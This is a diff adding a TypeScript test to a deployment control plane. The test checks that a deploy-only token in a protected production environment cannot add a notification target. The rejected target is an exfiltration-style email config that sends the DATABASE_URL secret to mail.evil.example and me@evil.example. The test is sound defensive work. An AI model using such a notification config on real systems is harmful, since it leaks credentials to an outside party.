@@ -59,6 +59,17 @@ test('a badge is seen by whom dploy.yml allows it, cached for moments, and is no
   assert.equal((await fetch(`${plane.url}/badge/shop/production.png`)).status, 400)
 })
 
+test('in a protected environment a deployer changes nothing of who is told: that needs no approval', async () => {
+  await using plane = await Plane.up()
+  const text = (notify: unknown[], replicas: number) => JSON.stringify({ ...(JSON.parse(config(notify)) as object), variables: { REPLICAS: replicas }, environments: { production: { protected: true, servers: ['web1'] } } })
+  const mine = [{ kind: 'email', server: 'mail.evil.example:587', user: 'me', secret: 'DATABASE_URL', from: 'me@evil.example', to: ['me@evil.example'] }]
+  await plane.client.call('apply', { body: { text: text([], 1) } })
+  const { token } = await plane.client.call('createToken', { body: { note: 'deployer', right: 'deploy', places: null, days: null } })
+  await plane.as(token).call('apply', { body: { text: text([], 2) } })
+  await assert.rejects(plane.as(token).call('apply', { body: { text: text(mine, 2) } }), { code: 'forbidden' })
+  assert.deepEqual((await plane.client.call('notifications', { params })).targets, [])
+})
+
 async function until(done: () => boolean | Promise<boolean>, what: string): Promise<void> {
   for (const deadline = Date.now() + 60_000; !(await done()); await delay(50)) assert.ok(Date.now() < deadline, what)
 }
